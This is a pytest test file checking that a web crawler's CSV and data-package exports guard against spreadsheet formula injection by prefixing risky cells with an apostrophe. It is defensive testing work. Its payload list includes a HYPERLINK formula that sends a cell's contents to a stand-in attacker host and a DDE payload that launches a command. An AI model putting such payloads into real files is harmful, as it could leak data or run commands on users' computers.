"""Defect 3 of issue 18: CSV formula injection. Crawled text in the CSV export and the data
package's CSV tables never starts a spreadsheet formula (OWASP: a leading apostrophe), reads
back as the same text once that apostrophe is dropped, and JSONL / JSON-LD stay raw."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from storage_fixtures import at, crawl, item

from mipcrawl.cli import main
from mipcrawl.exports.tables import EXPORT_FIELDS, write_table

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 1 23 45 67 89", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=déjà marqué", "Atelier = partage"]


def csv_cells(text: str) -> list[str]:
    record = dict.fromkeys(EXPORT_FIELDS)
    record.update(title=text, formats=[text, "atelier"])
    out = io.StringIO(newline="")
    write_table([record], "csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    return [row["title"], row["formats"]]


def spreadsheet_shows(cell: str) -> str:
    """What a spreadsheet shows for a text cell: a leading apostrophe marks text and is hidden;
    a cell starting with a formula character would be run (None stands for "ran")."""
    if cell.startswith("'"):
        return cell[1:]
    return None if cell.startswith(FORMULA_START) else cell


@given(st.text())
def test_any_text_in_a_csv_cell_reads_back_as_itself_in_a_spreadsheet_safe_form(text):
    title, formats = csv_cells(text)
    assert spreadsheet_shows(title) == text
    assert spreadsheet_shows(formats) == f"{text}; atelier"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_marked_as_text(payload):
    title, _ = csv_cells(payload)
    assert title[0] not in FORMULA_START
    assert (title == "'" + payload) == payload.startswith((*FORMULA_START, "'"))


@pytest.fixture
def hostile_db(tmp_path):
    db = f"sqlite:///{tmp_path / 'h.sqlite'}"
    crawl(db, [item(n, title=p, organiser=p, place_text=p) for n, p in enumerate(PAYLOADS)], when=at(2))
    return db


def test_csv_export_and_data_package_guard_every_text_cell(hostile_db, tmp_path, capsys):
    assert main(["export", "--db", hostile_db, "--format", "jsonl"]) == 0
    stored = {r["url"]: r for r in map(json.loads, capsys.readouterr().out.splitlines())}
    assert main(["export", "--db", hostile_db, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert main(["export", "--db", hostile_db, "--format", "datapackage", "--out", str(tmp_path / "pkg")]) == 0
    with open(tmp_path / "pkg" / "events.csv", encoding="utf-8", newline="") as handle:
        rows += list(csv.DictReader(handle))
    assert len(rows) == 2 * len(PAYLOADS)
    for row in rows:
        for name in ("title", "organiser", "place_text"):
            assert row[name][:1] not in FORMULA_START
            assert spreadsheet_shows(row[name]) == stored[row["url"]][name]
    assert sum(row["title"].startswith("'") for row in rows) >= 2 * 6
    fields = json.loads((tmp_path / "pkg" / "datapackage.json").read_text())["resources"]
    described = {f["name"]: f.get("description", "") for r in fields if r["name"] == "events"
                 for f in r["schema"]["fields"]}
    assert "formula" in described["title"] and "formula" not in described["id"]


@pytest.mark.parametrize("fmt", ["jsonl", "jsonld"])
def test_jsonl_and_jsonld_keep_the_text_raw(hostile_db, capsys, fmt):
    assert main(["export", "--db", hostile_db, "--format", fmt]) == 0
    out = capsys.readouterr().out
    for payload in PAYLOADS:
        assert json.dumps(payload.strip(), ensure_ascii=False) in out
